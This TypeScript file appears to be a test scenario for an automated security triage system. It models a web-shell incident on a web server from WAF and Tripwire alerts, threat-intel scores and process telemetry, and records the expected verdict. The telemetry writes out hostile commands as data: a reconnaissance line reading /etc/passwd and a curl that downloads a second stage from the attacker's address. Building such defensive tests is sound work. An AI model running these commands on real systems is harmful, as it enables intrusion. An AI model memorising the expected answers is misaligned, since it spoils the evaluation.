// Probes against the web server, then a file in its web folder, then a shell that calls out.
import { alert, confirmed, connected, hostile, ran, situation, wrote } from '../../shorthand.ts'

export const probesThenNewFileInWebroot = situation(
  'probes-then-new-file-in-webroot',
  'chains',
  'Probes, a new file in the web folder, a shell',
  (setting) => {
    const server = setting.machine('srv-web-01')
    const at = setting.ago({ minutes: 58 })
    const attacker = '80.94.95.211'
    const name = 'thumb_cache.php'
    const file = setting.file(name)
    const path = '/var/www/portal/uploads/img'
    const { incident } = confirmed(setting, 'web folder', {
      title: 'Web shell used on a server that faces the internet',
      category: 'Persistence',
      severity: 'High',
      at: at + 9 * 60_000,
      machine: server,
      techniques: ['T1505.003', 'T1190'],
      evidence: [
        { kind: 'File', name, path, file, status: 'Active' },
        { kind: 'Ip', ip: attacker },
      ],
    })
    return {
      alerts: [
        alert(
          setting,
          at - 14 * 60_000,
          'radware_appwall',
          'Unrestricted file upload attempt',
          `LEEF:2.0|Radware|AppWall|7.6.21|FileUploadViolation|^|devTime=${setting.iso(at - 14 * 60_000)}^sev=6^src=${attacker}^srcPort=41870^dst=${server.ip}^dstPort=443^policy=portal-prod^module=FilesUploadSecurity^title=Unrestricted file upload^uri=/portal/api/avatar^method=POST^host=portal.havskoginstruments.com^action=Reported^mode=Passive^transId=118812067`,
        ),
        alert(
          setting,
          at,
          'tripwire_enterprise',
          'Element added: critical change',
          `<?xml version="1.0" encoding="UTF-8"?>
<TEAlert version="9.1">
  <Node name="${server.dnsName}" type="Linux" ip="${server.ip}"/>
  <Rule name="Web content - portal" severity="10000"/>
  <Change type="ADDED" time="${setting.iso(at)}" approvalStatus="Unapproved">
    <Element>${path}/${name}</Element>
    <Attribute name="User" observed="www-data"/>
    <Attribute name="Permissions" observed="-rw-r--r--"/>
    <Attribute name="Size" observed="3118"/>
    <Attribute name="SHA-256" observed="${file.sha256}"/>
  </Change>
  <Console>te-console.havskoginstruments.com</Console>
</TEAlert>`,
        ),
      ],
      facts: {
        incidents: [incident],
        intelligence: [
          setting.risk('ip', attacker, 86, [
            ['Current Web Exploitation Source', 4, 'Uploads web shells to portals, seen today.'],
          ]),
          setting.risk('hash', file.sha256, 84, [
            ['Linked to Web Shell', 4, 'PHP web shell found on several servers this week.'],
          ]),
        ],
        telemetry: [
          wrote(server, at, name, path, file, {
            InitiatingProcessFileName: 'php-fpm8.1',
            InitiatingProcessAccountName: 'www-data',
          }),
          ran(server, at + 5 * 60_000, 'sh', "sh -c 'id; uname -a; cat /etc/passwd'", {
            AccountName: 'www-data',
            InitiatingProcessFileName: 'php-fpm8.1',
          }),
          ran(server, at + 7 * 60_000, 'curl', `curl -s http://${attacker}:8080/x -o /tmp/.x`, {
            AccountName: 'www-data',
            InitiatingProcessFileName: 'sh',
          }),
          connected(server, at + 7 * 60_000, attacker, {
            RemotePort: 8080,
            InitiatingProcessFileName: 'curl',
            InitiatingProcessAccountName: 'www-data',
          }),
        ],
        malwareEvents: [
          {
            key: 'webroot shell',
            type: 'Threat Detected',
            at: at + 8 * 60_000,
            machine: server,
            severity: 'High',
            detection: 'PHP.Webshell.Generic',
            detectionKey: 'webroot shell',
            file: { name, path, identity: file, disposition: 'Malicious' },
          },
        ],
      },
      expected: { ...hostile(server.host), forbidden: [{ action: 'isolate-machine', target: 'te-console' }] },
      because:
        'An upload from a current attacker address was only reported, minutes later the web server wrote a known web shell into its own folder, ran commands from it and fetched a second stage from the same address. People have confirmed it.',
    }
  },
)
